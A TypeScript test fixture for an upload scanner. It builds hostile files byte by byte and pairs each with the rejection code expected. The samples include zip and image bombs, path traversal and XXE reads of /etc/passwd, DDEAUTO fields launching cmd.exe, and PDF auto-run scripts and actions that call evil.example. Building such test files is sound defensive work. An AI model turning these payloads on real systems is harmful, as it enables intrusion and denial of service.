/** What somebody might send as evidence to do harm, each made byte by byte, with the verdict it must get. */
import { deflateSync } from 'node:zlib'
import { strToU8, type Zippable, zipSync } from 'fflate'
import { aJpg, aPdf, aPng } from './evidence.ts'
import { bookParts, documentParts, type Parts, zipped } from './files.ts'

type Bytes = Uint8Array<ArrayBuffer>
/** `size` and `digest` where they are not told as they are. */
export type Hostile = { what: string; name: string; make: () => Bytes; code: string; size?: number; digest?: string }

const bytes = (text: string): Bytes => new Uint8Array(Buffer.from(text, 'latin1'))
const join = (...parts: Uint8Array[]): Bytes => new Uint8Array(Buffer.concat(parts))
const zip = (parts: Zippable): Bytes => new Uint8Array(zipSync(parts))
const numbered = (text: string) => [...text].map((sign) => `&#${sign.charCodeAt(0)};`).join('')

const book = (more: Parts = {}) => zipped({ ...bookParts([['x']]), ...more })
const document = (more: Parts = {}) => zipped({ ...documentParts(['x']), ...more })
const sheet = (text: string) => book({ 'xl/worksheets/sheet1.xml': text })
const utf16 = (text: string) => new Uint8Array(Buffer.from(`\uFEFF${text}`, 'utf16le'))

/** A book with one more part of bytes. */
const holding = (name: string, part: Uint8Array) =>
  zip({
    ...Object.fromEntries(Object.entries(bookParts([['x']])).map(([key, text]) => [key, strToU8(text)])),
    [name]: part,
  })

const rel = (type: string, mode: string) =>
  `<Relationships><Relationship Id="a" Type="http://x/${type}" Target="http://evil.example/" TargetMode="${mode}"/></Relationships>`
const sheetRels = 'xl/worksheets/_rels/sheet1.xml.rels'

/** Changes numbers of the directory at the end of a ZIP: where its entries say what they are. */
function directory(file: Bytes, change: (view: DataView, at: number, entry: number) => void): Bytes {
  const view = new DataView(file.buffer, file.byteOffset)
  let entry = 0
  for (let at = 0; at < file.length - 46; at++) if (view.getUint32(at, true) === 0x02014b50) change(view, at, entry++)
  return file
}
const saying = (size: number, real: number) =>
  directory(zip({ 'xl/workbook.xml': new Uint8Array(real) }), (view, at) => view.setUint32(at + 24, size, true))
/** Two names for the same packed bytes. */
const overlapping = () =>
  directory(zip({ 'a.xml': strToU8('x'.repeat(900)), 'b.xml': strToU8('y'.repeat(900)) }), (view, at, entry) => {
    if (entry === 1) view.setUint32(at + 42, 0, true)
  })
const locked = () => directory(book(), (view, at) => view.setUint16(at + 8, view.getUint16(at + 8, true) | 1, true))
/** A name written over by another of the same length, in both places where a ZIP says it. */
function renamed(file: Bytes, from: string, to: string): Bytes {
  return bytes(Buffer.from(file).toString('latin1').replaceAll(from, to))
}
const link = () => zip({ 'xl/workbook.xml': [strToU8('/etc/passwd'), { os: 3, attrs: (0o120777 << 16) >>> 0 }] })

const laughs = `<!DOCTYPE lolz [<!ENTITY a "lol">${Array.from('bcdefgh', (name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(10)}">`).join('')}]><worksheet>&h;</worksheet>`

const inStream = (dictionary: string, content: Uint8Array) =>
  join(
    bytes(`9 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    bytes('\nendstream\nendobj\n'),
  )
const pdfWith = (part: Uint8Array): Bytes => aPdf(Buffer.from(part).toString('latin1'))
const packed = (text: string | Uint8Array) => deflateSync(text)
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const anEmptyZip = () => zip({ a: strToU8('x') })
const megabytes = 1024 * 1024

const fieldMark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`

const offices: Hostile[] = [
  {
    what: 'a sheet that shrinks a thousandfold',
    name: 'a.xlsx',
    make: () => sheet(' '.repeat(5_000_000)),
    code: 'file.bomb',
  },
  {
    what: 'a part that says it unpacks to 150 MB',
    name: 'a.xlsx',
    make: () => saying(150_000_000, 3_000_000),
    code: 'file.bomb',
  },
  { what: 'a part larger than it says', name: 'a.xlsx', make: () => saying(10, 3_000_000), code: 'file.broken' },
  { what: 'a part smaller than it says', name: 'a.xlsx', make: () => saying(90_000, 60_000), code: 'file.broken' },
  {
    what: '2,001 parts',
    name: 'a.docx',
    make: () => document(Object.fromEntries(Array.from({ length: 2_001 }, (_, n) => [`a/${n}`, 'x']))),
    code: 'file.bomb',
  },
  { what: 'parts that lie on one another', name: 'a.docx', make: overlapping, code: 'file.bomb' },
  {
    what: 'a name that leaves the folder',
    name: 'a.docx',
    make: () => document({ '../../etc/passwd': 'x' }),
    code: 'file.broken',
  },
  { what: 'a name from the root', name: 'a.docx', make: () => document({ '/etc/passwd': 'x' }), code: 'file.broken' },
  { what: 'a name with a backslash', name: 'a.docx', make: () => document({ 'a\\b.xml': 'x' }), code: 'file.broken' },
  { what: 'a name with a drive', name: 'a.docx', make: () => document({ 'C:/a.xml': 'x' }), code: 'file.broken' },
  {
    what: 'one name twice',
    name: 'a.docx',
    make: () => renamed(document({ 'word/a.xml': '<a/>', 'word/b.xml': '<a/>' }), 'word/b.xml', 'word/A.xml'),
    code: 'file.broken',
  },
  { what: 'a link to another file', name: 'a.xlsx', make: link, code: 'file.broken' },
  { what: 'an archive inside', name: 'a.xlsx', make: () => book({ 'xl/more.zip': 'x' }), code: 'file.objects' },
  {
    what: 'an archive called a picture',
    name: 'a.xlsx',
    make: () => holding('xl/media/image1.png', anEmptyZip()),
    code: 'file.objects',
  },
  {
    what: 'a 7z called a picture',
    name: 'a.xlsx',
    make: () => holding('xl/media/image1.png', bytes('7z\xbc\xaf\x27\x1c')),
    code: 'file.objects',
  },
  { what: 'macros', name: 'a.xlsx', make: () => book({ 'xl/vbaProject.bin': 'x' }), code: 'file.macros' },
  {
    what: 'macros by type',
    name: 'a.docx',
    make: () =>
      document({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    code: 'file.macros',
  },
  {
    what: 'macros whose type is written in numbers',
    name: 'a.docx',
    make: () =>
      document({
        '[Content_Types].xml': `<Types><Default Extension="bin" ContentType="${numbered('application/vnd.ms-office.vbaProject')}"/></Types>`,
      }),
    code: 'file.macros',
  },
  {
    what: 'macros of the oldest kind',
    name: 'a.xlsx',
    make: () => book({ 'xl/macrosheets/sheet1.xml': '<x/>' }),
    code: 'file.macros',
  },
  {
    what: 'a program called a picture',
    name: 'a.docx',
    make: () => document({ 'word/media/image1.png': 'MZ\x90' }),
    code: 'file.macros',
  },
  {
    what: 'an embedded object',
    name: 'a.xlsx',
    make: () => book({ 'xl/embeddings/oleObject1.bin': 'x' }),
    code: 'file.objects',
  },
  {
    what: 'an OLE file called a setting',
    name: 'a.xlsx',
    make: () => holding('xl/printer.bin', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1)),
    code: 'file.objects',
  },
  {
    what: 'an ActiveX control',
    name: 'a.docx',
    make: () => document({ 'word/activeX/activeX1.xml': '<x/>' }),
    code: 'file.objects',
  },
  {
    what: 'a linked workbook',
    name: 'a.xlsx',
    make: () => book({ 'xl/externalLinks/externalLink1.xml': '<x/>' }),
    code: 'file.external-links',
  },
  {
    what: 'a template elsewhere',
    name: 'a.xlsx',
    make: () => book({ [sheetRels]: rel('attachedTemplate', 'External') }),
    code: 'file.external-links',
  },
  {
    what: 'a template elsewhere, written in numbers',
    name: 'a.xlsx',
    make: () => book({ [sheetRels]: rel('attachedTemplate', numbered('External')) }),
    code: 'file.external-links',
  },
  {
    what: 'a field that starts another program',
    name: 'a.docx',
    make: () =>
      zipped(
        documentParts(
          '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
        ),
      ),
    code: 'file.external-links',
  },
  ...[
    ['in one attribute', '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe &quot;/k calc&quot;"/></w:p>'],
    [
      'in pieces',
      `<w:p>${fieldMark('begin')}${instruction(' DD')}${instruction('EAUTO c:\\cmd.exe')}${fieldMark('end')}</w:p>`,
    ],
    [
      'under another prefix',
      '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:r><x:instrText>INCLUDETEXT a</x:instrText></x:r></x:p>',
    ],
    [
      'by another field',
      `<w:p>${fieldMark('begin')}${fieldMark('begin')}${instruction('QUOTE 68 68 69')}${fieldMark('end')}${instruction(' c:\\cmd.exe')}${fieldMark('end')}</w:p>`,
    ],
  ].map(([how, body = '']) => ({
    what: `a field that starts another program, written ${how}`,
    name: 'a.docx',
    make: () => zipped(documentParts(body)),
    code: 'file.external-links',
  })),
  {
    what: 'an entity that reads a file',
    name: 'a.xlsx',
    make: () => sheet('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'),
    code: 'file.entities',
  },
  { what: 'entities that multiply', name: 'a.xlsx', make: () => sheet(laughs), code: 'file.entities' },
  {
    what: 'a part in an encoding no search sees',
    name: 'a.xlsx',
    make: () => holding('xl/more.xml', utf16('<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>')),
    code: 'file.broken',
  },
  { what: 'a password on its parts', name: 'a.xlsx', make: locked, code: 'file.encrypted' },
  {
    what: 'an old office file, or one with a password',
    name: 'a.docx',
    make: () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    code: 'file.old-office',
  },
  { what: 'half a file', name: 'a.docx', make: () => document().slice(0, 300), code: 'file.broken' },
  { what: 'a Word file called a workbook', name: 'a.xlsx', make: document, code: 'file.other-kind' },
  { what: 'a ZIP of something else', name: 'a.docx', make: anEmptyZip, code: 'file.unknown-kind' },
  {
    what: 'a Word file that is a PDF too',
    name: 'a.docx',
    make: () => zip({ 'a.txt': [strToU8('%PDF-1.4 '), { level: 0 }], 'word/document.xml': strToU8('<a/>') }),
    code: 'file.polyglot',
  },
]

const pdfs: Hostile[] = [
  {
    what: 'a PDF that runs a script when opened',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: `/OpenAction ${script} ` }),
    code: 'file.active',
  },
  {
    what: 'a script whose name is written in codes',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: `/OpenAction ${script.replace('/JavaScript', '/J#61vaS#63ript')} ` }),
    code: 'file.active',
  },
  {
    what: 'a script in packed objects',
    name: 'a.pdf',
    make: () => pdfWith(inStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`8 0 ${script}`))),
    code: 'file.active',
  },
  {
    what: 'a script in packed objects that name themselves in codes',
    name: 'a.pdf',
    make: () => pdfWith(inStream('/Type /Obj#53tm /#4e 1 /Fi#72st 4 /Filter /FlateDecode', packed(`8 0 ${script}`))),
    code: 'file.active',
  },
  {
    what: 'a PDF that starts a program',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
    code: 'file.active',
  },
  {
    what: 'a form that sends itself',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: '/AA << /WC << /S /SubmitForm /F (http://evil.example) >> >> ' }),
    code: 'file.active',
  },
  {
    what: 'a form in XML, with scripts of its own',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: '/AcroForm << /XFA 9 0 R >> ' }),
    code: 'file.active',
  },
  {
    what: 'a film in a PDF',
    name: 'a.pdf',
    make: () => aPdf('7 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'),
    code: 'file.active',
  },
  {
    what: 'files inside a PDF',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: '/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >> ' }),
    code: 'file.objects',
  },
  {
    what: 'a file pinned to a page',
    name: 'a.pdf',
    make: () => aPdf('7 0 obj\n<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 8 0 R >> >> >>\nendobj\n'),
    code: 'file.objects',
  },
  {
    what: 'a page that opens a file elsewhere',
    name: 'a.pdf',
    make: () => aPdf('', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) >> ' }),
    code: 'file.external-links',
  },
  {
    what: 'a PDF with a password',
    name: 'a.pdf',
    make: () => aPdf('', { trailer: '/Encrypt 7 0 R ' }),
    code: 'file.encrypted',
  },
  { what: 'half a PDF', name: 'a.pdf', make: () => aPdf().slice(0, 200), code: 'file.broken' },
  {
    what: 'packed objects without end',
    name: 'a.pdf',
    make: () =>
      pdfWith(inStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(new Uint8Array(101 * megabytes)))),
    code: 'file.bomb',
  },
  {
    what: 'objects packed as nobody packs them',
    name: 'a.pdf',
    make: () => pdfWith(inStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', bytes('789c'))),
    code: 'file.broken',
  },
  {
    what: 'a PDF that is an archive too',
    name: 'a.pdf',
    make: () => join(aPdf(), anEmptyZip()),
    code: 'file.polyglot',
  },
  { what: 'a PDF called a picture', name: 'a.png', make: aPdf, code: 'file.other-kind' },
  {
    what: 'a page of the web called a PDF',
    name: 'a.pdf',
    make: () => bytes('<html><script>alert(1)</script></html>'),
    code: 'file.unknown-kind',
  },
]

const pictures: Hostile[] = [
  {
    what: 'a picture of 10,000 megapixels',
    name: 'a.png',
    make: () => aPng({ width: 100_000, height: 100_000, pixels: packed('x') }),
    code: 'file.image-too-large',
  },
  {
    what: 'a small picture that unpacks to 60 MB',
    name: 'a.png',
    make: () => aPng({ width: 10, height: 10, pixels: packed(new Uint8Array(60 * megabytes)) }),
    code: 'file.bomb',
  },
  {
    what: 'words in a picture that unpack to 60 MB',
    name: 'a.png',
    make: () =>
      aPng({ width: 10, height: 10, more: [['zTXt', join(bytes('a\0\0'), packed(new Uint8Array(60 * megabytes)))]] }),
    code: 'file.bomb',
  },
  {
    what: 'a picture with more behind its end',
    name: 'a.png',
    make: () => aPng({ width: 10, height: 10, tail: '<script>alert(1)</script>' }),
    code: 'file.polyglot',
  },
  {
    what: 'a picture with fewer pixels than it says',
    name: 'a.png',
    make: () => aPng({ width: 100, height: 100, pixels: packed('x') }),
    code: 'file.broken',
  },
  {
    what: 'half a picture',
    name: 'a.png',
    make: () => aPng({ width: 10, height: 10 }).slice(0, 50),
    code: 'file.broken',
  },
  {
    what: 'a picture whose sums are wrong',
    name: 'a.png',
    make: () => renamed(aPng({ width: 10, height: 10 }), 'IEND', 'IENE'),
    code: 'file.broken',
  },
  {
    what: 'a photograph of 4,000 megapixels',
    name: 'a.jpg',
    make: () => aJpg({ width: 65_000, height: 65_000 }),
    code: 'file.image-too-large',
  },
  {
    what: 'a photograph drawn two hundred times over',
    name: 'a.jpg',
    make: () => aJpg({ width: 10, height: 10, scans: 201 }),
    code: 'file.bomb',
  },
  {
    what: 'half a photograph',
    name: 'a.jpg',
    make: () => aJpg({ width: 10, height: 10, end: false }),
    code: 'file.broken',
  },
  {
    what: 'a photograph that is an archive too',
    name: 'a.jpg',
    make: () => join(aJpg({ width: 10, height: 10 }), anEmptyZip()),
    code: 'file.polyglot',
  },
  {
    what: 'a drawing that runs scripts, called a picture',
    name: 'a.png',
    make: () => bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    code: 'file.unknown-kind',
  },
  {
    what: 'a program called a photograph',
    name: 'a.jpg',
    make: () => bytes('MZ\x90\0 a program'),
    code: 'file.unknown-kind',
  },
]

const large = () => new Uint8Array(21 * megabytes)
const names: Hostile[] = [
  { what: 'nothing', name: 'a.pdf', make: () => new Uint8Array(), code: 'file.empty' },
  { what: '21 MB', name: 'a.pdf', make: large, code: 'file.too-large' },
  { what: '21 MB that say they are a hundred bytes', name: 'a.pdf', make: large, size: 100, code: 'file.other-size' },
  { what: 'more than was told', name: 'a.pdf', make: aPdf, size: 100, code: 'file.other-size' },
  {
    what: 'other bytes than their digest',
    name: 'a.pdf',
    make: aPdf,
    digest: 'a'.repeat(64),
    code: 'file.other-digest',
  },
  { what: 'a name with a control character', name: 'bao\u0007cao.pdf', make: aPdf, code: 'file.bad-name' },
  { what: 'a name that turns the writing around', name: 'bao-cao\u202Efdp.exe', make: aPdf, code: 'file.bad-name' },
  { what: 'a name with signs nobody sees', name: 'bao\u200Bcao.pdf', make: aPdf, code: 'file.bad-name' },
  { what: 'a name that is a path', name: '../../etc/passwd.pdf', make: aPdf, code: 'file.bad-name' },
  { what: 'a name of another kind', name: 'bao-cao.pdf.exe', make: aPdf, code: 'file.bad-name' },
]

export const hostileFiles: readonly Hostile[] = [...offices, ...pdfs, ...pictures, ...names]
